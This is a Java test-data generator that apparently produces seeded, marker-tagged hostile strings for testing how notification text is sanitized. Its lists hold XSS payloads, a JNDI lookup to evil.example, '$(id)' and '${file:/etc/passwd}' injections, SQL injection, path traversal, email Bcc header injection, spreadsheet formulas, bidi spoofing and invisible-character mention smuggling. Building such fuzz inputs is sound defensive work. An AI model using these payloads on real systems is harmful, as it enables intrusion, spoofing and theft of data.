package parallax.coordinator.notify.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.TreeMap;

/**
 * Makes texts that want to be more than text: something of each kind, with others of its own and of
 * other kinds around it. The same seed makes the same texts, and each has a word of its own by
 * which it is known again.
 */
public final class Malice {
  private static final int EACH = 18;
  private static final int LONG = 20_000;

  private static final Map<String, List<String>> KINDS =
      new TreeMap<>(
          Map.ofEntries(
              Map.entry(
                  "mentions",
                  List.of(
                      "<!channel>",
                      "<!here|here>",
                      "<!everyone>",
                      "<@U024BE7LH|boss>",
                      "<!subteam^SAZ94GDB8>",
                      "<@&41771983423143936>",
                      "<@!80351110224678912>",
                      "@everyone @here",
                      "<at>Everyone</at>",
                      "@channel #general $TSLA /kick@bot")),
              Map.entry(
                  "links",
                  List.of(
                      "[your bank](https://evil.example)",
                      "<https://evil.example|https://bank.example>",
                      "<http://x|y>",
                      "![x](https://evil.example/p.png)",
                      "[a]: http://evil.example \"t\"",
                      "<mailto:a@evil.example|mail>",
                      "tg://user?id=1 slack://open javascript:alert(1)",
                      "<t:1618953630:R></airhorn:816437322781949972>")),
              Map.entry(
                  "markup",
                  List.of(
                      "*bold* _it_ ~no~ `code`",
                      "**b** __u__ ~~s~~ ||spoiler||",
                      "```\nblock\n```",
                      "# heading\n> quote\n- item\n1. one",
                      "| a | b |\n|---|---|",
                      ":skull: :100: :+1:",
                      ">>> all of it",
                      "\\*not\\* \\<b\\> ends in \\")),
              Map.entry(
                  "html",
                  List.of(
                      "<script>alert(1)</script>",
                      "\"><img src=x onerror=alert(1)>",
                      "' onmouseover='alert(1)",
                      "</title></td></table><style>*{display:none}</style>",
                      "<!-- ",
                      "--> ]]> <![CDATA[",
                      "<iframe src=//evil.example></iframe>",
                      "&lt;b&gt; &#60;script&#62; &nbsp; &amp;lt;")),
              Map.entry(
                  "lines",
                  List.of(
                      "a\r\nBcc: victim@evil.example",
                      "\r\n\r\n<html>body</html>",
                      "\r\n.\r\nMAIL FROM:<x@evil.example>\r\n",
                      "\nX-Header: 1\n\nGET / HTTP/1.1",
                      "\u2028Bcc: x\u2029\u0085\u000B\f",
                      "=?UTF-8?B?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
                      "%0d%0aBcc: x@evil.example =0D=0A",
                      "\r\n--=_boundary--\r\n")),
              Map.entry(
                  "templates",
                  List.of(
                      "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
                      "${jndi:ldap://evil.example/a} ${env:PATH} ${file:/etc/passwd}",
                      "{{ .Labels.alertname }} {{ template \"x\" }}",
                      "{{DATE(2017-02-14T06:08:39Z,SHORT)}} {{ time(2017-02-14T06:08:39Z) }}",
                      "@{triggerBody()} $(id) `id` %PATH%",
                      "{% raw %}{0} {who} {said}",
                      "%s %n %x %1$s %999999999d",
                      "$1 \\1 \\u003c!channel\\u003e")),
              Map.entry(
                  "directions",
                  List.of(
                      "\u202Egnp.exe\u202C",
                      "\u2066\u2067isolate\u2069",
                      "\u200Fright\u200E\u061C",
                      "\u202A\u202B\u202D",
                      "שלום עולם",
                      "مرحبا بالعالم",
                      "user\u202E@\u2066// if admin\u2069\u2066",
                      "日本語\u202E")),
              Map.entry(
                  "invisible",
                  List.of(
                      "<!chan\u200Bnel>",
                      "@\u200Beveryone @\u00ADhere",
                      "a\u200Bb\u200Cc\u200Dd\uFEFFe\u2060f",
                      "tag\uDB40\uDC41\uDB40\uDC42",
                      "\u3164\u115F\uFFA0\u2800",
                      "\u0000\u0001\u0007\u001B[31mred\u001B[0m",
                      "\u009B2J\u0090",
                      "\u180E\uFE0F\u034F")),
              Map.entry(
                  "units",
                  List.of(
                      "\uD800 alone",
                      "low \uDC00 first",
                      "ends high \uD83D",
                      "\uDC00\uD800",
                      "\uFFFE\uFFFF \uDBFF\uDFFF \uE000",
                      "👩‍👩‍👧‍👦 🏴‍☠️ 🇯🇵",
                      "Z\u0351\u036B\u0343\u036A\u0302a\u0335l\u0321g\u0322o",
                      "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301")),
              Map.entry(
                  "documents",
                  List.of(
                      "\",\"text\":\"<!channel>\",\"x\":\"",
                      "\"},\"admin\":true,{\"a\":\"",
                      "\\\",\\\"a\\\":\\\"",
                      "'; DROP TABLE notice; --",
                      "=HYPERLINK(\"https://evil.example\")",
                      "..\\..\\..\\etc\\passwd ../../etc/passwd",
                      "?a=b&c#d;e",
                      "null true [] {}")),
              Map.entry(
                  "names",
                  List.of(
                      "drill",
                      "alertname",
                      "incident",
                      "severity",
                      "__proto__",
                      "constructor",
                      "",
                      " \t ")),
              Map.entry(
                  "long",
                  List.of(
                      "x".repeat(LONG),
                      "<".repeat(LONG),
                      "&".repeat(LONG),
                      "*_".repeat(LONG / 2),
                      "\"\\".repeat(LONG / 2),
                      "🔥".repeat(LONG / 2),
                      "長".repeat(LONG),
                      "@a \r\n".repeat(LONG / 5)))));

  private Malice() {}

  /**
   * A text, and the word by which it is known again.
   *
   * @param kind what it wants
   */
  public record Text(String kind, String word, String value) {
    @Override
    public String toString() {
      return kind + " " + word;
    }
  }

  /** All of them, of every kind as many. */
  public static List<Text> texts(long seed) {
    SplittableRandom random = new SplittableRandom(seed);
    List<List<String>> kinds = List.copyOf(KINDS.values());
    List<Text> texts = new ArrayList<>();
    KINDS.forEach(
        (kind, own) -> {
          for (int number = 0; number < EACH; number++) {
            String word = "mark" + texts.size() + "x";
            String one = own.get(number % own.size());
            String other = pick(random, pick(random, kinds));
            String value =
                switch (number / own.size()) {
                  case 0 -> one + " " + word;
                  default -> word + other + one + pick(random, own);
                };
            // What is long is cut; the word has to be in what is left.
            texts.add(new Text(kind, word, value.indexOf(word) > 50 ? word + value : value));
          }
        });
    return List.copyOf(texts);
  }

  private static <T> T pick(SplittableRandom random, List<T> all) {
    return all.get(random.nextInt(all.size()));
  }
}
